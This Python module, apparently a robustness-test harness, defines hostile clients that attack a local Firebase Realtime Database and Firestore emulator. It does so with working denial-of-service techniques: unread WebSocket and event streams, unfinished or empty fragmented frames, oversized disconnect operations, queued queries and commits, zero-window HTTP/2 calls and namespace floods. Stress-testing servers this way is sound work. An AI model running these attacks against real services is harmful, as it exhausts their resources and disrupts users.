"""Hostile clients, each a function of a port and of a scale, which is 1 for the whole attack.

They run in processes of their own until they are ended, and come from an address of their own.
Realtime Databases are attacked in the namespace of the honest client.
"""

import base64
import json
import socket
import struct
import time

import http2
from google.cloud.firestore_v1 import types
from google.cloud.firestore_v1.types import firestore as requests

ATTACKER, NAMESPACE = "127.0.0.9", "shared"
DATABASE = "projects/shared/databases/(default)"
ROOT = f"{DATABASE}/documents"
TIMEOUT = 60
SEGMENT = 16_384
MB = 1_000_000


def count(number, scale, least=1):
    return max(least, int(number * scale))


def connect(port, receive_bytes=None):
    connection = socket.socket()
    if receive_bytes:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
    connection.bind((ATTACKER, 0))
    connection.settimeout(TIMEOUT)
    connection.connect(("127.0.0.1", port))
    return connection


def hold():
    """Goes on until the process is ended."""
    while True:
        time.sleep(1)


def send(connection, data):
    """Sends as far as the server takes it; False once it has closed the connection."""
    try:
        connection.sendall(data)
        return True
    except OSError:
        return False


# WebSockets


def frame(text, opcode=1, is_last=True):
    """A frame whose mask is zero."""
    data = text.encode()
    head = bytes([(0x80 if is_last else 0) | opcode])
    if len(data) < 126:
        head += bytes([0x80 | len(data)])
    elif len(data) < 65_536:
        head += struct.pack(">BH", 0x80 | 126, len(data))
    else:
        head += struct.pack(">BQ", 0x80 | 127, len(data))
    return head + bytes(4) + data


def message(number, action, **body):
    text = json.dumps({"t": "d", "d": {"r": number, "a": action, "b": body}})
    pieces = [text[at:at + SEGMENT] for at in range(0, len(text), SEGMENT)]
    first = frame(str(len(pieces))) if len(pieces) > 1 else b""
    return first + b"".join(map(frame, pieces))


def web_socket(port, receive_bytes=None):
    connection = connect(port, receive_bytes)
    key = base64.b64encode(bytes(16)).decode()
    connection.sendall(
        f"GET /.ws?v=5&ns={NAMESPACE} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n"
        f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
        .encode())
    received = b""
    while b'"t":"h"' not in received and (piece := connection.recv(4_096)):
        received += piece
    return connection


def drain(connections, seconds):
    """Takes what the server sends."""
    end = time.monotonic() + seconds
    for connection in connections:
        connection.settimeout(0.001)
    while time.monotonic() < end:
        for connection in connections:
            try:
                connection.recv(1 << 20)
            except OSError:
                pass
        time.sleep(0.01)


def disconnect_operations(port, scale):
    """Sessions with many operations for their end are cut one after the other."""
    operations = count(100_000, scale)
    while True:
        connection = web_socket(port)
        for at in range(0, operations, 1_000):
            values = {f"k{number}": number for number in range(at, min(at + 1_000, operations))}
            send(connection, message(at + 1, "om", p="/left", d=values))
        drain([connection], 2)
        connection.close()


def disconnect_values(port, scale):
    """The values of operations for the end of sessions are large."""
    connections = [web_socket(port) for _ in range(count(60, scale, 10))]
    for number in range(10):
        for at, connection in enumerate(connections):
            value = "x" * count(2 * MB, scale)
            send(connection, message(number + 1, "o", p=f"/values/{at}/{number}", d=value))
    drain(connections, 2)
    for connection in connections:
        connection.close()
    hold()


def unread_streams(port, scale):
    """Event streams that read nothing of the large values that others write."""
    streams = [connect(port, 4_096) for _ in range(count(2_000, scale))]
    for connection in streams:
        send(connection, f"GET /large.json?ns={NAMESPACE} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
             "Accept: text/event-stream\r\n\r\n".encode())
    hold()


def unread_sockets(port, scale):
    """The same over WebSockets."""
    sockets = [web_socket(port, 4_096) for _ in range(count(200, scale, 20))]
    for connection in sockets:
        send(connection, message(1, "q", p="/large", h=""))
    hold()


def queued_gets(port, scale):
    """Sockets with hundreds of queries in line, each of which sorts many children."""
    query = {"i": "v", "l": 1, "vf": "l"}
    sockets = [web_socket(port) for _ in range(8)]
    for connection in sockets:
        send(connection, b"".join(
            message(number, "g", p="/many", q=dict(query, i=f"v{number}")) for number in range(count(400, scale, 40))))
    while True:
        drain(sockets, 1)


def queued_conditions(port, scale):
    """Writes that depend on the hash of a large location that changes, without waiting."""
    sockets = [web_socket(port) for _ in range(count(8, scale, 2))]
    number = 0
    while True:
        for connection in sockets:
            batch = b"".join(
                message(number + at, "p", p="/many", d=1, h="x" * 28) for at in range(100))
            send(connection, batch + message(number + 100, "p", p="/many/k1/w", d=number))
            number += 101
        drain(sockets, 0.2)


def unread_gets(port, scale):
    """Sockets that read nothing ask for large values."""
    sockets = [web_socket(port, 4_096) for _ in range(count(40, scale, 8))]
    for connection in sockets:
        send(connection, b"".join(message(at, "g", p="/many", q={}) for at in range(100)))
    hold()


def unread_windows(port, scale):
    """Sockets that read nothing listen to large windows."""
    sockets = [web_socket(port, 4_096) for _ in range(count(40, scale, 8))]
    for connection in sockets:
        send(connection, b"".join(
            message(tag, "q", p="/many", q={"l": 10_000 + tag, "vf": "l"}, t=tag, h="")
            for tag in range(1, count(200, scale, 20))))
    hold()


def unfinished_messages(port, scale):
    """Messages in segments whose last ones never come."""
    sockets = [web_socket(port) for _ in range(count(200, scale, 20))]
    piece = frame("x" * SEGMENT)
    for connection in sockets:
        send(connection, frame("1000") + piece * count(600, scale))
    hold()


def ordered_listens(port, scale):
    """Differently ordered listens of a location that others change."""
    sockets = [web_socket(port) for _ in range(2)]
    for connection in sockets:
        for tag in range(1, count(1_000, scale, 50)):
            send(connection, message(
                tag, "q", p="/many", q={"i": f"v{tag}", "l": 1, "vf": "l"}, t=tag, h=""))
    while True:
        drain(sockets, 1)


def empty_frames(port, scale):
    """Continuation frames that bring nothing."""
    while True:
        sockets = [web_socket(port) for _ in range(8)]
        for connection in sockets:
            send(connection, frame("x", is_last=False))
        empty = frame("", opcode=0, is_last=False) * 10_000
        for _ in range(20):
            for connection in sockets:
                send(connection, empty)


def listen_pairs(port, scale):
    """Listens that begin and end, without waiting for answers."""
    sockets = [web_socket(port) for _ in range(16)]
    pairs = b"".join(
        message(2 * at, "q", p=f"/pairs/{at}", h="") + message(2 * at + 1, "n", p=f"/pairs/{at}")
        for at in range(500))
    while True:
        for connection in sockets:
            send(connection, pairs)
        drain(sockets, 0.01)


def namespaces(port, scale):
    """Names of databases."""
    for number in range(count(3_000, scale, 200)):
        with connect(port) as connection:
            send(connection, f"PUT /a.json?ns=n{number} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                 "Content-Length: 1\r\nConnection: close\r\n\r\n1".encode())
            connection.recv(4_096)
    hold()


# Documents


def document_calls(port, connections, method, request, calls, window):
    """Calls at once on each of several connections."""
    payload = http2.grpc_message(type(request).serialize(request))
    opened = []
    for _ in range(connections):
        connection = connect(port, 4_096 if window == 0 else None)
        opened.append(connection)
        frames = [http2.PREFACE, http2.frame(
            http2.SETTINGS, 0, 0, b"\0\4" + window.to_bytes(4, "big"))]
        frames.append(http2.frame(http2.WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big")))
        for number in range(calls):
            stream = 2 * number + 1
            frames.append(http2.frame(
                http2.HEADERS, http2.END_HEADERS, stream, http2.call_headers(method)))
            frames += [
                http2.frame(
                    http2.DATA, http2.END_STREAM if at + SEGMENT >= len(payload) else 0, stream,
                    payload[at:at + SEGMENT])
                for at in range(0, len(payload), SEGMENT)]
        connection.settimeout(1)
        send(connection, b"".join(frames))
    if window == 0:
        hold()
    drain(opened, 10)


def sorted_query(descending_field):
    return requests.RunQueryRequest(parent=ROOT, structured_query={
        "from_": [{"collection_id": "many"}], "limit": 1,
        "order_by": [{"field": {"field_path": descending_field}, "direction": "DESCENDING"}]})


def sorted_queries(port, scale):
    """Sorted queries in line."""
    while True:
        document_calls(port, 8, "RunQuery", sorted_query("v"), count(400, scale, 20), 1 << 20)


def unread_answers(port, scale):
    """Large answers that nobody reads."""
    request = requests.RunQueryRequest(
        parent=ROOT, structured_query={"from_": [{"collection_id": "large"}]})
    document_calls(port, count(40, scale, 4), "RunQuery", request, count(100, scale, 20), 0)


def commits(port, scale):
    """Commits of 500 writes in line."""
    writes = [{"update": types.Document(
        name=f"{ROOT}/written/{number}", fields={"s": types.Value(integer_value=number)})}
        for number in range(500)]
    request = requests.CommitRequest(database=DATABASE, writes=writes)
    while True:
        document_calls(port, 1, "Commit", request, count(200, scale, 5), 1 << 20)


def aggregations(port, scale):
    """Aggregations of all documents in line, on one connection."""
    request = requests.RunAggregationQueryRequest(
        parent=ROOT, structured_aggregation_query={
            "structured_query": {"from_": [{"collection_id": "many"}]},
            "aggregations": [{"sum": {"field": {"field_path": "v"}}, "alias": "a"}]})
    while True:
        document_calls(port, 1, "RunAggregationQuery", request, count(200, scale, 40), 1 << 20)


def attack(kind, port, scale):
    """Attacks until the process is ended, or the server has."""
    try:
        kind(port, scale)
    except OSError:
        pass


TREES = [
    disconnect_operations, disconnect_values, unread_streams, unread_sockets, queued_gets,
    queued_conditions, unread_gets, unread_windows, unfinished_messages, ordered_listens, empty_frames,
    listen_pairs, namespaces]
DOCUMENTS = [sorted_queries, unread_answers, commits, aggregations]
